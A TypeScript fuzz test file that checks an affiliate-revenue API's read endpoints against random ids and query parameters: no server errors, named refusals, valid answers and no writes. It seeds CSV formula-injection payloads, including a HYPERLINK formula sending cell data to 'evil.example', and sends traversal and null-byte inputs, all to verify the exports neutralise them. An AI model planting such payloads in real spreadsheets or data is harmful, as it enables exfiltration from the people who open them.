import fc from 'fast-check';
import { cloudEvent } from '../support/events';
import { at, usd } from '../support/ledger-scenario';
import { KEYS } from '../support/test-app';
import {
  anyString,
  encodeSegment,
  idString,
  invalidDateString,
  junkParam,
  pathSegment,
  queryString,
  validInstant,
  type QueryParam,
} from './support/arbitraries';
import { formulaCells } from './support/csv';
import {
  checkAnswer,
  describeExchange,
  FuzzApp,
  fuzzParameters,
  SEEDED,
  type Fingerprint,
  type RawRequest,
  type RawResponse,
  type Seeded,
} from './support/fuzz-app';

/**
 * Every read endpoint of SPEC §5 under random ids (encoded control characters, `..`, broken
 * percent-encoding, 8000 characters) and random query parameters (impossible dates, repeated and
 * unknown parameters, odd formats and page sizes). A read never answers 5xx, names the parameter
 * it refuses, answers real data for valid input, writes CSV no spreadsheet runs as a formula, and
 * never changes anything stored.
 */

/** Upstream ids a spreadsheet would run as formulas, booked for P-1 so its CSV statement holds them. */
const FORMULA_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', '\tTAB'];

interface ReadSpec {
  endpoint: string;
  path: (segment: string) => string;
  /** Ids that exist, as path segments. */
  known: string[];
  /** Parameters and valid values for them. */
  params: Record<string, fc.Arbitrary<string>>;
  /** Parameters and values that are certainly refused (400 naming the parameter). */
  invalid: Record<string, fc.Arbitrary<string>>;
  /** What a 200 for a known id must hold. */
  check?: (response: RawResponse, id: string, params: QueryParam[]) => string | undefined;
}

/** Where an instant is expected in a query, '' means "not given": every other invalid date is refused. */
const invalidQueryDate = invalidDateString.filter((value) => value !== '');
const validDate = validInstant;

const BAD_LIMIT = fc.constantFrom('0', '1001', '-1', '1.5', 'ten', '1e3', ' 5', '99999999999999999999');
const BAD_CURSOR = fc.constantFrom('x', '!!', Buffer.from('{"a":1}').toString('base64url'), 'W10');

/** A list answer: `{items, nextCursor}`. */
const isPage = (response: { json?: { items?: unknown; nextCursor?: unknown } }): string | undefined =>
  Array.isArray(response.json?.items) && (response.json?.nextCursor === null || typeof response.json?.nextCursor === 'string')
    ? undefined
    : 'not a page of a list';

describe('fuzz: read endpoints', () => {
  let f: FuzzApp;
  let seeded: Seeded;
  let start: Fingerprint;

  beforeAll(async () => {
    f = await FuzzApp.start();
    seeded = await f.seed();
    const facts = [
      cloudEvent('click.recorded', { partnerId: 'P-1', visitorId: 'v-formula' }, { time: at('02-01') }),
      cloudEvent('customer.identified', { customerId: 'CU-formula', visitorId: 'v-formula' }, { time: at('02-01') }),
      ...FORMULA_IDS.map((conversionId, i) =>
        cloudEvent(
          'deal.closed_won',
          { conversionId, customerId: 'CU-formula', accountDomain: 'formula.example', amount: usd(`${100 + i}.00`) },
          { time: at('02-11') },
        ),
      ),
      cloudEvent('invoice.refunded', { conversionId: FORMULA_IDS[0], amount: usd('10.00') }, { time: at('02-20') }),
    ];
    const ingest = await f.json('POST', '/v1/events', KEYS.ingest, facts);
    if (ingest.json?.results?.some((result: { status: string }) => result.status !== 'accepted'))
      throw new Error(`seeding failed: ${ingest.text}`);
    await f.catchUp();
    start = await f.fingerprint();
  }, 120_000);

  afterAll(async () => {
    f?.report('read endpoints');
    await f?.close();
  });

  const partnerIds = SEEDED.partners.map(encodeSegment);
  const SPECS: ReadSpec[] = [
    {
      endpoint: 'GET /v1/partners/{id}/balance',
      path: (id) => `/v1/partners/${id}/balance`,
      known: partnerIds,
      params: { asOf: validDate, knownAt: validDate },
      invalid: { asOf: invalidQueryDate, knownAt: invalidQueryDate },
      check: (response, id) =>
        response.json?.partnerId === decodeURIComponent(id) && Array.isArray(response.json.balances)
          ? undefined
          : 'not a balance of that partner',
    },
    {
      endpoint: 'GET /v1/partners/{id}/statement',
      path: (id) => `/v1/partners/${id}/statement`,
      known: partnerIds,
      params: { from: validDate, to: validDate, knownAt: validDate, format: fc.constantFrom('json', 'csv') },
      invalid: {
        from: invalidQueryDate,
        to: invalidQueryDate,
        knownAt: invalidQueryDate,
        format: fc.constantFrom('xml', 'JSON', 'csv ', 'pdf', '../csv', 'csv\u0000', 'json;csv'),
      },
      check: (response, id, params) => {
        if (params.some((param) => param.name === 'format' && param.value === 'csv')) {
          if (!/^text\/csv/.test(String(response.headers['content-type']))) return 'format=csv is not text/csv';
          const formulas = formulaCells(response.text);
          return formulas.length > 0 ? `CSV cells a spreadsheet would run: ${JSON.stringify(formulas.slice(0, 5))}` : undefined;
        }
        return response.json?.partnerId === decodeURIComponent(id) && Array.isArray(response.json.lines)
          ? undefined
          : 'not a statement of that partner';
      },
    },
    {
      endpoint: 'GET /v1/partners/{id}/tier',
      path: (id) => `/v1/partners/${id}/tier`,
      known: partnerIds,
      params: {},
      invalid: {},
      check: (response, id) =>
        response.json?.partnerId === decodeURIComponent(id) && typeof response.json.tier === 'string'
          ? undefined
          : 'not a tier of that partner',
    },
    {
      endpoint: 'GET /v1/conversions/{id}/attribution',
      path: (id) => `/v1/conversions/${id}/attribution`,
      // '\tTAB' is left out: an event may carry a tab in an id, but a path segment may hold no control character, so it cannot be read here.
      known: ['C-1', 'C-2', 'C-5', 'C-7', 'INV-1', ...FORMULA_IDS.filter((id) => !id.includes('\t'))].map(encodeSegment),
      params: {},
      invalid: {},
      check: (response, id) =>
        response.json?.conversionId === decodeURIComponent(id) && Array.isArray(response.json.credits)
          ? undefined
          : 'not the attribution of that conversion',
    },
    {
      endpoint: 'GET /v1/reports/partner-sourced-revenue',
      path: () => '/v1/reports/partner-sourced-revenue',
      known: [''],
      params: { from: validDate, to: validDate, groupBy: fc.constantFrom('partner', 'partnerType', 'month') },
      invalid: {
        from: invalidQueryDate,
        to: invalidQueryDate,
        groupBy: fc.constantFrom('Partner', 'week', 'partner ', '__proto__', 'constructor', 'toString', 'month\u0000', 'partner,month'),
      },
      check: (response) => (Array.isArray(response.json?.rows) && Array.isArray(response.json.totals) ? undefined : 'not a report'),
    },
    {
      endpoint: 'GET /v1/reports/kpis',
      path: () => '/v1/reports/kpis',
      known: [''],
      params: { asOf: validDate },
      invalid: { asOf: invalidQueryDate },
      check: (response) => (typeof response.json?.asOf === 'string' ? undefined : 'not KPIs'),
    },
    {
      endpoint: 'GET /v1/simulations/{id}',
      path: (id) => `/v1/simulations/${id}`,
      known: [],
      params: {
        page: fc.integer({ min: 1, max: 5 }).map(String),
        pageSize: fc.integer({ min: 1, max: 1000 }).map(String),
        format: fc.constantFrom('json', 'csv'),
      },
      invalid: {
        page: fc.constantFrom('0', '-1', '1.5', 'abc', '1e3x', '9007199254740993', ' '),
        pageSize: fc.constantFrom('0', '1001', '-5', '2.5', 'all', '1e9', '99999999999999999999'),
        format: fc.constantFrom('xml', 'CSV', 'json ', ''),
      },
      check: (response, id, params) => {
        if (params.some((param) => param.name === 'format' && param.value === 'csv'))
          return formulaCells(response.text).length > 0 ? 'CSV cells a spreadsheet would run' : undefined;
        return response.json?.id === decodeURIComponent(id) && response.json.status === 'done' ? undefined : 'not that simulation';
      },
    },
    {
      endpoint: 'GET /v1/attribution/policies',
      path: () => '/v1/attribution/policies',
      known: [''],
      params: {},
      invalid: {},
      check: (response) => (Array.isArray(response.json) && response.json.length >= 2 ? undefined : 'not the list of policies'),
    },
    {
      endpoint: 'GET /v1/ledger/verify',
      path: () => '/v1/ledger/verify',
      known: [''],
      params: {},
      invalid: {},
      check: (response) => (response.json?.ok === true ? undefined : 'the ledger does not verify'),
    },
    // The lists of issue 17: limit and cursor, filters, and the statement paged.
    {
      endpoint: 'GET /v1/partners',
      path: () => '/v1/partners',
      known: [''],
      params: {
        limit: fc.integer({ min: 1, max: 1000 }).map(String),
        search: fc.constantFrom('p-', 'North', 'x', '%', '_'),
        type: fc.constantFrom('reseller', 'affiliate', 'referral'),
        tier: fc.constantFrom('registered', 'silver', 'gold'),
        status: fc.constantFrom('active', 'suspended', 'terminated'),
      },
      invalid: {
        limit: BAD_LIMIT,
        cursor: BAD_CURSOR,
        type: fc.constantFrom('Reseller', 'vendor', '__proto__', 'reseller '),
        tier: fc.constantFrom('platinum', 'Gold', 'toString'),
        status: fc.constantFrom('inactive', 'ACTIVE', 'active,suspended'),
      },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/partners/{id}/statement (paged)',
      path: (id) => `/v1/partners/${id}/statement`,
      known: partnerIds,
      params: { limit: fc.integer({ min: 1, max: 1000 }).map(String), from: validDate, to: validDate },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR },
      check: (response, id, params) =>
        response.json?.partnerId === decodeURIComponent(id) &&
        Array.isArray(response.json.lines) &&
        // Paged only when limit (or cursor) is given; whole otherwise, as before.
        (!params.some((param) => param.name === 'limit') || 'nextCursor' in response.json)
          ? undefined
          : 'not a page of that statement',
    },
    {
      endpoint: 'GET /v1/conversions',
      path: () => '/v1/conversions',
      known: [''],
      params: {
        limit: fc.integer({ min: 1, max: 1000 }).map(String),
        partnerId: fc.constantFrom('P-1', 'P-2', 'P-404'),
        customerId: fc.constantFrom('CU-a1', 'CU-formula', 'nobody'),
        from: validDate,
        to: validDate,
      },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR, from: invalidQueryDate, to: invalidQueryDate },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/payout-runs',
      path: () => '/v1/payout-runs',
      known: [''],
      params: { limit: fc.integer({ min: 1, max: 1000 }).map(String) },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/adjustments',
      path: () => '/v1/adjustments',
      known: [''],
      params: { limit: fc.integer({ min: 1, max: 1000 }).map(String), partnerId: fc.constantFrom('P-1', 'P-404') },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/partners/{id}/deals',
      path: (id) => `/v1/partners/${id}/deals`,
      known: partnerIds,
      params: { limit: fc.integer({ min: 1, max: 1000 }).map(String) },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/risk/flags',
      path: () => '/v1/risk/flags',
      known: [''],
      params: {
        limit: fc.integer({ min: 1, max: 1000 }).map(String),
        status: fc.constantFrom('open', 'released', 'rejected'),
        partnerId: fc.constantFrom('P-1', 'P-404'),
      },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR, status: fc.constantFrom('held', 'OPEN', 'x') },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/disputes',
      path: () => '/v1/disputes',
      known: [''],
      params: { limit: fc.integer({ min: 1, max: 1000 }).map(String), status: fc.constantFrom('open', 'upheld', 'rejected') },
      invalid: { limit: BAD_LIMIT, cursor: BAD_CURSOR, status: fc.constantFrom('closed', 'Upheld', 'x') },
      check: isPage,
    },
    {
      endpoint: 'GET /v1/risk/policies',
      path: () => '/v1/risk/policies',
      known: [''],
      params: {},
      invalid: {},
      check: (response) => (response.json?.inForce?.version ? undefined : 'no risk policy in force'),
    },
    {
      endpoint: 'GET /health',
      path: () => '/health',
      known: [''],
      params: {},
      invalid: {},
      check: (response) => (response.json?.status === 'ok' ? undefined : '/health is not ok'),
    },
  ];

  for (const spec of SPECS) {
    it(`${spec.endpoint}: no 5xx, refusals name the parameter, valid reads answer, nothing is written`, async () => {
      const known = spec.known.length > 0 ? spec.known : [encodeSegment(seeded.simulationId)];
      const hasId = spec.path('ID').includes('ID');
      const validParams = fc
        .subarray(Object.keys(spec.params))
        .chain((names) =>
          names.length === 0
            ? fc.constant([] as QueryParam[])
            : fc.tuple(...names.map((name) => spec.params[name].map((value): QueryParam => ({ name, value })))),
        );
      const invalidNames = Object.keys(spec.invalid);
      const modes: Array<fc.Arbitrary<{ mode: string; id: string; params: QueryParam[]; field?: string }>> = [
        fc.record({ mode: fc.constant('valid'), id: fc.constantFrom(...known), params: validParams }),
        fc.record({
          mode: fc.constant('random'),
          id: hasId ? pathSegment(fc.oneof(idString, fc.constantFrom(...known.map(decodeURIComponent)))) : fc.constant(''),
          params: fc.array(
            fc.oneof(
              junkParam,
              ...Object.keys({ ...spec.params, ...spec.invalid }).map((name) =>
                fc.record({
                  name: fc.constant(name),
                  value: fc.oneof(anyString, spec.params[name] ?? anyString, spec.invalid[name] ?? anyString),
                }),
              ),
            ),
            { maxLength: 4 },
          ),
        }),
      ];
      if (Object.keys(spec.params).length > 0) {
        // A known id with a parameter given twice: refused by name, whatever the values.
        modes.push(
          fc.record({
            mode: fc.constant('repeated'),
            id: fc.constantFrom(...known),
            params: validParams.filter((params) => params.length > 0),
          }),
        );
      }
      if (invalidNames.length > 0) {
        modes.push(
          fc.constantFrom(...invalidNames).chain((field) =>
            fc.record({
              mode: fc.constant('invalid'),
              id: fc.constantFrom(...known),
              field: fc.constant(field),
              params: fc
                .tuple(validParams, spec.invalid[field])
                .map(([params, value]) => [...params.filter((param) => param.name !== field), { name: field, value }]),
            }),
          ),
        );
      }
      let cases = 0;
      await fc.assert(
        fc.asyncProperty(fc.oneof(...modes), async ({ mode, id, params, field }) => {
          const query = mode === 'repeated' ? [...params, params[0]] : params;
          const request: RawRequest = {
            method: 'GET',
            path: `${spec.path(id)}${queryString(query)}`,
            headers: { Authorization: `Bearer ${KEYS.finance}` },
          };
          const response = await f.send(request);
          f.count(spec.endpoint, response.status);
          if (mode === 'valid') {
            checkAnswer(request, response, { statuses: [200] });
            const problem = spec.check?.(response, id, query);
            if (problem) throw new Error(`${problem}\n${describeExchange(request, response)}`);
          } else if (mode === 'invalid') {
            checkAnswer(request, response, { statuses: [400], fields: [field!] });
          } else if (mode === 'repeated') {
            checkAnswer(request, response, { statuses: [400], fields: [params[0].name] });
          } else {
            checkAnswer(request, response, { statuses: [200, 400, 404] });
          }
          // Reads never write; checked every 100 cases and at the end (a fingerprint per case would double the time).
          cases += 1;
          if (cases % 100 === 0) await f.expectUnchanged(start, request, response, 'a read');
        }),
        fuzzParameters(1000),
      );
      await f.expectUnchanged(
        start,
        { method: 'GET', path: spec.endpoint },
        { status: 0, headers: {}, text: '', json: undefined },
        `after ${cases} reads`,
      );
    }, 300_000);
  }
});
